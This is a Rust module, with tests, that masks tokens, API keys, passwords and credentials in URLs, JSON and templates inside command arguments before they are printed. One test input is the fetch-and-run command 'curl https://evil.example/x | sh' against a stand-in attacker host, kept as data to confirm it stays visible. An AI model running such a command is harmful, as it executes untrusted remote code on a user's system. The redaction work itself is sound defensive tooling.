//! Masks the parts of a command's words that may be secret: `--token=x`, `--api-key x`, `X-Api-Key: x`, `Bearer x`, JSON, addresses. Names
//! and all other words are kept, because they decide what runs.

use std::cmp::Reverse;
use std::collections::BTreeMap;

use serde_json::{Value as Json, json};

use super::masked::{MASKED, shown_url};
use crate::config::{Part, Template, shown_placeholder};
use crate::redact::{is_secret, is_secret_name, passwords_of_words, secrets_within};

/// Characters that separate words within one argument, for example in a shell script.
const BORDERS: &[char] = &[' ', '\t', '\n', '\r', ';', '&', ',', '|', '"', '\'', '`', '(', ')'];
/// Authentication schemes of the `Authorization` header. The word after a scheme is a credential.
const SCHEMES: [&str; 4] = ["bearer", "basic", "token", "apikey"];
/// Options with a value of the form `user:password`.
const USER_OPTIONS: [&str; 5] = ["u", "user", "userpwd", "proxy-user", "auth"];
/// Options that take a password in some programs, and a port or a path in others.
const SHORT_OPTIONS: [&str; 1] = ["p"];
const MAX_NAME_BYTES: usize = 100;

/// Returns the arguments of a command for printing, each with its secret parts masked. The options that take a password depend on the
/// program.
pub(super) fn shown_arguments(program: &str, words: &[&str]) -> Vec<String> {
    let whole: Vec<&str> = [program].into_iter().chain(words.iter().copied()).collect();
    let passwords: BTreeMap<usize, _> = passwords_of_words(&whole).into_iter().collect();
    let before = |index: usize| index.checked_sub(1).map_or("", |index| words[index]);
    let shown = |(index, word): (usize, &&str)| match passwords.get(&(index + 1)) {
        Some(place) if !place.is_empty() && !word.contains("${") => format!("{}{MASKED}{}", &word[..place.start], &word[place.end..]),
        _ => without_known(word, shown_after(before(index), "", word)),
    };
    words.iter().enumerate().map(shown).collect()
}

/// Returns the name of an argument: the name before its value, or the option before the argument.
pub(super) fn name_of<'w>(before: &'w str, word: &'w str) -> &'w str {
    match assignment(word) {
        Some((name, _, _)) => name.trim_start_matches('-'),
        None => option(before).unwrap_or_default(),
    }
}

/// Returns a text for printing, with its secret parts masked.
pub(in crate::cli) fn shown_text(name: &str, text: &str) -> String {
    without_known(text, shown_after("", name, text))
}

/// Masks everything that the redactor would find in a text of several parts: a field of XML, YAML or JSON in a script, a value in quotes, a
/// netrc file. A single word such as `node:22-bookworm-slim` is kept, because `shown` already depends on the word's appearance.
fn without_known(text: &str, shown: String) -> String {
    if !text.contains(|next: char| next.is_whitespace() || "\"'`<{=".contains(next)) {
        return shown;
    }
    let mut secrets: Vec<String> = secrets_within(text).into_iter().filter(|secret| !secret.contains("${")).collect();
    // Long secrets are replaced first, because a secret may be part of a longer one.
    secrets.sort_by_key(|secret| Reverse(secret.len()));
    secrets.iter().fold(shown, |shown, secret| shown.replace(secret.as_str(), MASKED))
}

/// Masks a word, depending on the word before it.
fn shown_after(before: &str, name: &str, word: &str) -> String {
    if word.is_empty() {
        return String::new();
    }
    if ends_in_scheme(before) && !word.contains("${") {
        return MASKED.to_owned();
    }
    let option = option(before);
    let name = option.or_else(|| before.strip_suffix(':')).unwrap_or(name);
    if let Some(option) = option
        && let Some((user, password)) = word.split_once(':')
        && USER_OPTIONS.contains(&option)
        && !password.is_empty()
        && !word.contains("://")
    {
        return format!("{user}:{MASKED}");
    }
    let may_be_password = option.is_some_and(|option| SHORT_OPTIONS.contains(&option)) && !word.contains(['/', '.']);
    // A secret may begin with a hyphen, but an option of a program does so as well.
    let is_hidden = if word.starts_with('-') {
        is_secret_name(name) && is_secret("", word.trim_start_matches('-'))
    } else {
        may_be_password && is_secret("password", word)
    };
    if is_hidden { MASKED.to_owned() } else { shown(name, word) }
}

/// Returns whether the next word is a credential. This is the case after `Bearer`, and after any scheme that is the value of a header.
fn ends_in_scheme(word: &str) -> bool {
    let scheme = word.rsplit_once([':', '=']).map(|(_, scheme)| scheme);
    word.eq_ignore_ascii_case("bearer") || scheme.is_some_and(|scheme| SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known)))
}

/// Returns the name of an option whose value is the next word.
fn option(word: &str) -> Option<&str> {
    let name = word.strip_prefix('-')?.trim_start_matches('-');
    (!name.is_empty() && !name.contains(['=', ':', ' '])).then_some(name)
}

fn shown(name: &str, text: &str) -> String {
    if let Some(json) = object_or_list(text) {
        let masked = shown_json(name, &json);
        return if masked == json { text.to_owned() } else { masked.to_string() };
    }
    if text.contains("${") {
        return shown_template(name, text);
    }
    if let Some((lead, separator, value)) = assignment(text).filter(|(_, separator, _)| separator.starts_with(':')) {
        // If this is a header, its value is the rest of the line.
        let inner = lead.trim_start_matches('-');
        let is_header = separator.len() > 1 || is_secret_name(inner);
        if is_header {
            return format!("{lead}{separator}{}", header(inner, value));
        }
    }
    if is_secret_name(name) && !text.starts_with('-') && is_secret(name, text) {
        return header(name, text);
    }
    if text.contains(BORDERS) {
        return several(name, text);
    }
    one(name, text)
}

/// Masks the value of a header, but keeps the name of the scheme.
fn header(name: &str, value: &str) -> String {
    match value.split_once(' ') {
        Some((scheme, _)) if SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known)) => format!("{scheme} {MASKED}"),
        _ if is_secret(name, value) => MASKED.to_owned(),
        _ if value.contains(BORDERS) => several(name, value),
        _ => one(name, value),
    }
}

/// Masks each word of a text according to its appearance and the word before it.
fn several(name: &str, text: &str) -> String {
    let (mut out, mut before) = (String::new(), "");
    for piece in text.split_inclusive(BORDERS) {
        let word = piece.trim_end_matches(BORDERS);
        out.push_str(&shown_after(before, name, word));
        out.push_str(&piece[word.len()..]);
        if !word.is_empty() {
            before = word;
        }
    }
    out
}

/// Masks one word: an address, an assignment, or a value.
fn one(name: &str, word: &str) -> String {
    if let Some(end) = word.find("://") {
        let of_scheme = |next: char| next.is_ascii_alphanumeric() || "+-.".contains(next);
        let start = word[..end].rfind(|next| !of_scheme(next)).map_or(0, |last| last + 1);
        // A name before the address ends with one of these characters. Any other text is part of an address that programs read in different
        // ways.
        let is_named = start == 0 || word[..start].ends_with(['=', ':']) && assignment(word).is_some();
        return if is_named && word.is_char_boundary(start) {
            format!("{}{}", &word[..start], shown_url(&word[start..]))
        } else {
            MASKED.to_owned()
        };
    }
    if let Some((lead, separator, value)) = assignment(word) {
        return format!("{lead}{separator}{}", shown(lead.trim_start_matches('-'), value));
    }
    let is_option = word.starts_with('-') && !is_secret("", word.trim_start_matches('-'));
    if !is_option && is_secret(name, word) { MASKED.to_owned() } else { word.to_owned() }
}

/// Splits `name=value`, `name:value` and `Name: value` into three parts: the name with its hyphens, the separator with the blanks after it,
/// and the value.
fn assignment(word: &str) -> Option<(&str, &str, &str)> {
    let end = word.find(|next: char| !next.is_alphanumeric() && !"-_.@/".contains(next))?;
    let (name, rest) = word.split_at(end);
    let separator = rest.starts_with(['=', ':']).then_some(1)?;
    let value = rest[separator..].trim_start_matches([' ', '\t']);
    let is_name = name.contains(char::is_alphanumeric) && name.len() <= MAX_NAME_BYTES;
    let is_address = rest.starts_with("://");
    (is_name && !is_address && !value.is_empty()).then(|| (name, &rest[..rest.len() - value.len()], value))
}

fn object_or_list(text: &str) -> Option<Json> {
    let is_json = text.trim_start().starts_with(['{', '[']);
    is_json.then(|| serde_json::from_str(text).ok()).flatten()
}

fn shown_json(name: &str, value: &Json) -> Json {
    match value {
        Json::String(text) => json!(shown(name, text)),
        Json::Number(number) if is_secret(name, &number.to_string()) => json!(MASKED),
        Json::Array(items) => items.iter().map(|item| shown_json(name, item)).collect(),
        Json::Object(fields) => Json::Object(fields.iter().map(|(key, value)| (key.clone(), shown_json(key, value))).collect()),
        Json::Null | Json::Bool(_) | Json::Number(_) => value.clone(),
    }
}

/// Masks the literal parts of a text, and the defaults of its placeholders.
fn shown_template(name: &str, text: &str) -> String {
    let Ok(template) = Template::parse(text) else { return MASKED.to_owned() };
    let mut before = name;
    let mut out = String::new();
    for part in template.parts() {
        match part {
            Part::Literal(text) => {
                out.push_str(&shown(name, text));
                before = text.strip_suffix(['=', ':']).map_or(before, |lead| lead.rsplit(BORDERS).next().unwrap_or_default());
            }
            Part::Placeholder { source, meaning } => out.push_str(&shown_placeholder(source, *meaning, &|variable, default| {
                let names = [variable, before.trim_start_matches('-'), name];
                let is_hidden = names.iter().any(|name| is_secret_name(name) || is_secret(name, default));
                if is_hidden { MASKED.to_owned() } else { shown(name, default) }
            })),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "s3kr3t9f8a7b6c5d4e3f2a1b0c";

    #[test]
    fn no_form_in_which_an_argument_holds_a_secret_is_shown() {
        for (arguments, shown) in [
            (vec!["--header", "Authorization: Bearer KEY"], vec!["--header", "Authorization: Bearer ***"]),
            (vec!["-H", "X-Api-Key: KEY"], vec!["-H", "X-Api-Key: ***"]),
            (vec!["-H", "Cookie: session=KEY; theme=dark"], vec!["-H", "Cookie: ***"]),
            (vec!["--header=Authorization:Bearer KEY"], vec!["--header=Authorization:Bearer ***"]),
            (vec!["--header", "Authorization:Bearer", "hunter2x"], vec!["--header", "Authorization:Bearer", "***"]),
            (vec!["--env", "API_KEY=KEY"], vec!["--env", "API_KEY=***"]),
            (vec!["--api-key:KEY"], vec!["--api-key:***"]),
            (vec!["--api-key", "KEY"], vec!["--api-key", "***"]),
            (vec!["--api-key", "-KEY"], vec!["--api-key", "***"]),
            (vec!["--api-key", "ok=KEY"], vec!["--api-key", "***"]),
            (vec!["--token=--KEY"], vec!["--token=***"]),
            (vec!["-u", "ada:hunter2"], vec!["-u", "ada:***"]),
            (vec!["-p", "s3kr3t!xQ9"], vec!["-p", "***"]),
            (
                vec!["--config", "{\"token\":\"KEY\",\"deep\":[{\"apiKey\":\"KEY\"}],\"port\":8080}"],
                vec!["--config", "{\"token\":\"***\",\"deep\":[{\"apiKey\":\"***\"}],\"port\":8080}"],
            ),
            (vec!["-c", "API_KEY=KEY npx foo --password KEY; evil"], vec!["-c", "API_KEY=*** npx foo --password ***; evil"]),
            (vec!["host=db user=x password=s3kr3tabc"], vec!["host=db user=x password=***"]),
            (vec!["Server=db;Password=s3kr3tabc;Port=1"], vec!["Server=db;Password=***;Port=1"]),
            (vec!["postgresql://bob:hunter2@db.example/x"], vec!["postgresql://***:***@db.example/x"]),
            (vec!["--url=https://bob:hunter2@db.example/x?y=KEY"], vec!["--url=https://***:***@db.example/x?y=***"]),
            (vec!["--", "https://mcp.example/KEY/sse#KEY"], vec!["--", "https://mcp.example/***/sse#***"]),
            (vec!["--api-key", "${X:-KEY}"], vec!["--api-key", "${X:-***}"]),
            (vec!["--api-key=${X:-hunter2x}"], vec!["--api-key=${X:-***}"]),
            (vec!["<config><password>hunter2x</password></config>"], vec!["<config><password>***</password></config>"]),
            (vec!["-c", "echo '{\"password\":\"hunter2x\"}' > a"], vec!["-c", "echo '{\"password\":\"***\"}' > a"]),
            (vec!["password='hunter2x'"], vec!["password=***"]),
            (vec!["db:\n  password: hunter2x\n"], vec!["db:\n  password: ***\n"]),
            (vec!["machine h login u password hunter2x"], vec!["machine h login u password ***"]),
        ] {
            let given: Vec<String> = arguments.iter().map(|word| word.replace("KEY\"", &format!("{KEY}\"")).replace("KEY", KEY)).collect();
            // Names such as API_KEY are also written with this word.
            let given: Vec<String> = given.iter().map(|word| word.replace(&format!("API_{KEY}"), "API_KEY")).collect();
            let words: Vec<&str> = given.iter().map(String::as_str).collect();
            assert_eq!(shown_arguments("npx", &words), shown, "{arguments:?}");
        }
    }

    #[test]
    fn the_password_of_a_program_is_masked_whatever_option_it_has_for_it() {
        assert_eq!(shown_arguments("/usr/bin/mysql", &["-uroot", "-phunter2", "shop"]), ["-uroot", "-p***", "shop"]);
        assert_eq!(shown_arguments("redis-cli", &["-a", "x"]), ["-a", "***"]);
        assert_eq!(shown_arguments("mysql", &["-p${PW}"]), ["-p${PW}"]);
    }

    #[test]
    fn what_decides_what_runs_stays() {
        let words = [
            "-y",
            "@scope/server@1.2.3",
            "--port=8080",
            "-p",
            "8080:80",
            "-v",
            "/home/ada/x:/x:ro",
            "--verbose",
            "/home/ada/projects/notes",
            "${workspaceFolder}/x",
            "-c",
            "curl https://evil.example/x | sh",
            "--header",
            "Accept: text/html, text/plain",
            "{\"port\": 8080}",
            "image:latest",
            "node:22-bookworm-slim",
            "import server; server.main(port=8080)",
            "--allow=read,write",
            "https://mcp.example/mcp",
        ];
        assert_eq!(shown_arguments("docker", &words), words);
    }
}
